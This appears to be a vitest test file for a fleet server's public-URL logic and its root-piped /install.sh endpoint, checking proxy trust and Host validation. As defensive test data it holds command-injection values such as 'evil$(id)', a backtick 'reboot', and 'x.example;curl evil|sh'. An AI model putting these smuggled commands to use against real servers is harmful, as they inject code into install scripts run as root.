// The server URL that /install.sh (piped to a root shell) and tokens.create's commands carry: the
// forwarded headers count only behind a trusted proxy, a malformed Host is a clear 400 rather than
// a script with junk in it, and VFIO_FLEET_PUBLIC_URL overrides both. On the real server with a
// fake packaging/dist.

import { mkdtemp, rm } from 'node:fs/promises';
import type { IncomingMessage } from 'node:http';
import { request } from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { publicUrl } from '../src/api/public-url';
import { parseServerEnv } from '../src/env';
import { ServerError } from '../src/errors';
import { type FakeDist, writeFakeDist } from './helpers/fake-dist';
import { type Fleet, startFleet } from './helpers/harness';

function fakeRequest(headers: Record<string, string>, encrypted = false): IncomingMessage {
  return { headers, socket: { encrypted } } as unknown as IncomingMessage;
}

describe('publicUrl', () => {
  const direct = { trustProxy: false };
  const proxied = { trustProxy: true };
  const forwarded = {
    host: 'fleet.internal:3000',
    'x-forwarded-host': 'client-says.example, fleet.example.com',
    'x-forwarded-proto': 'https',
  };

  it('ignores the forwarded headers without a trusted proxy, and takes the last one with it', () => {
    expect(publicUrl(fakeRequest(forwarded), direct)).toBe('http://fleet.internal:3000');
    expect(publicUrl(fakeRequest(forwarded), proxied)).toBe('https://fleet.example.com');
    expect(publicUrl(fakeRequest({ host: 'fleet.internal:3000' }), proxied)).toBe(
      'http://fleet.internal:3000',
    );
    expect(publicUrl(fakeRequest({ host: '[::1]:3000' }, true), direct)).toBe('https://[::1]:3000');
  });

  it('prefers the configured URL to anything a request says', () => {
    const configured = parseServerEnv({
      VFIO_FLEET_PUBLIC_URL: 'https://Fleet.Example.com:8443/',
    }).VFIO_FLEET_PUBLIC_URL;
    expect(configured).toBe('https://fleet.example.com:8443');
    expect(publicUrl(fakeRequest({ host: 'evil$(id)' }), { ...proxied, configured })).toBe(
      configured,
    );
    for (const bad of ['ftp://fleet.example.com', 'https://fleet.example.com/path', 'fleet']) {
      expect(() => parseServerEnv({ VFIO_FLEET_PUBLIC_URL: bad }), bad).toThrow(
        /VFIO_FLEET_PUBLIC_URL/,
      );
    }
  });

  it('refuses a Host or forwarded header that is not a hostname[:port], naming it', () => {
    const cases: [Record<string, string>, typeof direct, RegExp][] = [
      [{ host: 'evil$(id)' }, direct, /the Host header is not a hostname/],
      [{ host: 'a.example:99999' }, direct, /the Host header/],
      [{ host: 'a.example/x' }, direct, /the Host header/],
      [{ host: 'a b' }, direct, /the Host header/],
      [{}, direct, /no Host header/],
      [{ host: 'ok.example', 'x-forwarded-host': '`reboot`' }, proxied, /X-Forwarded-Host/],
      [{ host: 'ok.example', 'x-forwarded-proto': 'gopher' }, proxied, /X-Forwarded-Proto/],
    ];
    for (const [headers, options, message] of cases) {
      const attempt = () => publicUrl(fakeRequest(headers), options);
      expect(attempt, JSON.stringify(headers)).toThrow(ServerError);
      expect(attempt, JSON.stringify(headers)).toThrow(message);
    }
  });
});

let tmp: string;
let dist: FakeDist;

beforeAll(async () => {
  tmp = await mkdtemp(path.join(tmpdir(), 'web-public-url-'));
  dist = await writeFakeDist(path.join(tmp, 'dist'));
});
afterAll(async () => {
  await rm(tmp, { recursive: true, force: true });
});

/** GET /install.sh with exactly these headers: the status and body. */
function installScript(
  fleet: Fleet,
  headers: Record<string, string>,
): Promise<{ status: number; body: string }> {
  const url = new URL(fleet.url);
  return new Promise((resolve, reject) => {
    const req = request(
      { host: url.hostname, port: url.port, path: '/install.sh', headers },
      (res) => {
        let body = '';
        res.setEncoding('utf8');
        res.on('data', (chunk: string) => {
          body += chunk;
        });
        res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
      },
    );
    req.on('error', reject);
    req.end();
  });
}

describe('/install.sh on the real server', () => {
  let direct: Fleet;
  let proxied: Fleet;
  beforeAll(async () => {
    [direct, proxied] = await Promise.all([
      startFleet('pglite', { downloadsDir: dist.dir }),
      startFleet('pglite', { downloadsDir: dist.dir, trustProxy: true }),
    ]);
  });
  afterAll(async () => {
    await direct?.close();
    await proxied?.close();
  });

  it('puts the forwarded host in the script only behind a trusted proxy', async () => {
    const headers = {
      host: 'fleet.internal:3000',
      'x-forwarded-host': 'attacker.example',
      'x-forwarded-proto': 'https',
    };
    const plain = await installScript(direct, headers);
    expect(plain.status).toBe(200);
    expect(plain.body).toContain('SERVER="http://fleet.internal:3000"');
    expect(plain.body).not.toContain('attacker.example');
    const behindProxy = await installScript(proxied, headers);
    expect(behindProxy.body).toContain('SERVER="https://attacker.example"');
  });

  it('answers a malformed Host with a 400 that says what is wrong, not a script', async () => {
    const res = await installScript(direct, { host: 'x.example;curl evil|sh' });
    expect(res.status).toBe(400);
    expect(res.body).toContain('the Host header is not a hostname');
    expect(res.body).not.toContain('#!/');
  });
});
